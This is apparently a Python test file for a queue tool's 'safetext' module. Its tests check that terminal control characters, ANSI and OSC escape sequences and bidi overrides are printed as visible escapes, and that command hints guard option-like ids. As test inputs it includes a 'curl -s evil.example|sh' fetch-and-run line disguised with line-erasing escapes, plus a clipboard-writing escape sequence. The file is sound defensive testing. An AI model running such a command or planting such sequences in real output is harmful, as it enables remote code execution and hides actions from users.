"""safetext: what reaches a terminal holds no control character, only its visible escape."""

from __future__ import annotations

import re

import structlog
from hypothesis import given
from hypothesis import strategies as st

from queuectl import logs
from queuectl.safetext import command_line, visible, visible_lines

CONTROLS = [chr(c) for c in (*range(0x20), *range(0x7F, 0xA0))]
BIDI = [chr(c) for c in (0x061C, 0x200E, 0x200F, *range(0x202A, 0x202F), *range(0x2066, 0x206A))]
UNSAFE = re.compile("[\x00-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]")


def test_every_control_shows_as_the_escape_repr_would_write() -> None:
    for char in [*CONTROLS, *BIDI, "\u2028", "\u2029"]:
        assert visible(char) == repr(char)[1:-1], hex(ord(char))


def test_printable_text_comes_back_as_it_is() -> None:
    for text in ["", "echo hi | sh", "é ü ß 日本 🙂", "tab\\there", "a\u00a0b", "x\u200dy"]:
        assert visible(text) == text
    clean = "curl -s https://example.com"
    assert visible(clean) is clean  # the fast path copies nothing


def test_the_examples_of_issue_19() -> None:
    assert visible("sh #\x1b[2K\x1b[1G") == r"sh #\x1b[2K\x1b[1G"
    assert visible("\x1b]52;c;cHdu\x07") == r"\x1b]52;c;cHdu\x07"
    assert visible("\x9b2K\x9d0;t\x9c") == r"\x9b2K\x9d0;t\x9c"
    assert visible("true\nstate completed") == r"true\nstate completed"
    assert visible("abc\u202edcba") == r"abc\u202edcba"


def test_lines_keep_newlines_and_tabs_and_show_the_rest() -> None:
    assert visible_lines("a\tb\nc\n") == "a\tb\nc\n"
    assert visible_lines("dos\r\nline\r\n") == "dos\nline\n"  # looks the same
    assert visible_lines("10%\r20%\r\x1b[31mred\x1b[0m\n") == r"10%\r20%\r\x1b[31mred\x1b[0m" + "\n"
    assert visible_lines("\b\x07\u202e") == r"\x08\x07\u202e"


@given(st.text())
def test_no_control_survives_and_escaping_twice_changes_nothing(text: str) -> None:
    once = visible(text)
    assert not UNSAFE.search(once)
    assert visible(once) == once
    lines = visible_lines(text)
    assert not UNSAFE.search(lines.replace("\n", "").replace("\t", ""))
    assert visible_lines(lines) == lines


def test_a_hint_puts_dashes_before_an_id_that_reads_as_an_option() -> None:
    assert command_line("show", "-rf") == "queuectl show -- -rf"
    assert command_line("dlq retry", "a", "-b") == "queuectl dlq retry -- a -b"
    assert command_line("show", "01hx") == "queuectl show 01hx"
    assert command_line("schedule remove", "a b") == "queuectl schedule remove 'a b'"
    assert command_line("show", "x\x1b") == r"queuectl show 'x\x1b'"


def test_console_logs_show_controls_escaped() -> None:
    event = {
        "event": "job_claimed",
        "command": "curl -s evil.example|sh #\x1b[2K\x1b[1G",
        "queue": "q\x9b2K",  # no space: the renderer alone would print it raw
        "queues": ["a\u202e"],
        "attempt": 1,
        "exception": "Traceback (most recent call last):\n  boom\x1b]0;t\x07",
    }
    line = structlog.dev.ConsoleRenderer(colors=False)(
        None, "info", logs.escape_controls(None, "info", event)
    )
    assert not UNSAFE.search(line.replace("\n", ""))
    assert r"command='curl -s evil.example|sh #\x1b[2K\x1b[1G'" in line
    assert r"queue='q\x9b2K'" in line
    assert r"queues=['a\u202e']" in line
    assert "attempt=1" in line
    assert line.endswith("Traceback (most recent call last):\n  boom\\x1b]0;t\\x07")
